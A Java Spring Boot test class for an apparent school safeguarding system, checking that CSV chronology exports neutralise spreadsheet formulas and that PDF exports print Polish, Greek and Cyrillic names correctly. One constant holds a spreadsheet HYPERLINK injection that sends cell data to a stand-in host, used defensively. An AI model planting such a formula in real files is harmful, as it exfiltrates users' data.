package org.safeguarding.incident;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Map;

import com.lowagie.text.pdf.PdfReader;
import com.lowagie.text.pdf.parser.PdfTextExtractor;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.safeguarding.kernel.testing.Api;
import org.safeguarding.kernel.testing.ServiceOverHttp;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.TestPropertySource;

/**
 * Exports are safe to open: no live formula in a spreadsheet, and every name printed as
 * it was written.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("demo")
@TestPropertySource(properties = "safeguarding.post-service.url=http://localhost:9")
abstract class ExportSafetyContract extends ServiceOverHttp {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click for the full record\")";

    private static final String POLISH = "Łukasz Żółć";

    private static final String GREEK = "Αλέξανδρος Παπαδόπουλος";

    private static final String RUSSIAN = "Дмитрий Иванов";

    @Test
    void aFormulaInTheChronologyCsvIsShownAsTextNeverRun() throws IOException {
        String id = report(IncidentApiContract.yellowForm("Pupil bullied in a group chat"));
        assertThat(api.as("dsl")
            .post("/api/incidents/" + id + "/escalation", Map.of("to", "SLT", "reason", FORMULA))
            .status()).isEqualTo(200);

        Api.Response csv = api.as("dsl").get("/api/incidents/" + id + "/chronology", "Accept", "text/csv");

        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .build()
            .parse(new StringReader(csv.body()))
            .getRecords();
        assertThat(rows).extracting(row -> row.get("why")).contains("'" + FORMULA).doesNotContain(FORMULA);
        assertThat(csv.body()).doesNotContain(",=HYPERLINK").doesNotContain("\"=HYPERLINK");
    }

    @Test
    void pdfExportsPrintLatinExtendedGreekAndCyrillicNamesExactly() throws IOException {
        Map<String, Object> allegation = IncidentApiContract.allegation("Concern about " + POLISH);
        allegation.put("subjects", List.of(Map.of("kind", "STAFF", "name", POLISH),
                Map.of("kind", "PUPIL", "name", GREEK), Map.of("kind", "PUPIL", "name", RUSSIAN)));
        String id = report(allegation);
        Api.Response referred = api.as("head")
            .post("/api/incidents/" + id + "/lado-referral", Map.of("adult",
                    Map.of("name", POLISH, "role", "Teaching assistant", "employmentStatus", "Permanent"), "allegation",
                    Map.of("what", "Private messages to pupils", "when", "Last week", "where", "Instagram",
                            "howItCameToLight", "A pupil told her teacher"),
                    "childrenInvolved", List.of(GREEK, RUSSIAN), "actionsTaken", "Suspended from the school's accounts",
                    "informed", Map.of("parents", true, "police", false, "hr", true)));
        assertThat(referred.status()).as(referred.toString()).isEqualTo(200);
        assertThat(api.as("head")
            .post("/api/incidents/" + id + "/notes", Map.of("text", "Spoke to " + RUSSIAN + "'s mother"))
            .status()).isEqualTo(200);

        String referral = pdfText(
                api.as("head").get("/api/incidents/" + id + "/lado-referral", "Accept", "application/pdf"));
        String chronology = pdfText(
                api.as("head").get("/api/incidents/" + id + "/chronology", "Accept", "application/pdf"));

        assertThat(referral).contains(POLISH, GREEK, RUSSIAN);
        assertThat(chronology).contains("Concern about " + POLISH, "Spoke to " + RUSSIAN + "'s mother");
    }

    private String report(Map<String, Object> form) {
        Api.Response created = api.as("teacher").post("/api/incidents", form);
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        return created.json().get("id").asText();
    }

    /** The text of every page, as OpenPDF reads it back. */
    private static String pdfText(Api.Response response) throws IOException {
        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        assertThat(response.contentType()).isEqualTo("application/pdf");
        PdfReader reader = new PdfReader(response.bytes());
        try {
            PdfTextExtractor extractor = new PdfTextExtractor(reader);
            StringBuilder text = new StringBuilder();
            for (int page = 1; page <= reader.getNumberOfPages(); page++) {
                text.append(extractor.getTextFromPage(page)).append('\n');
            }
            return text.toString();
        }
        finally {
            reader.close();
        }
    }

}
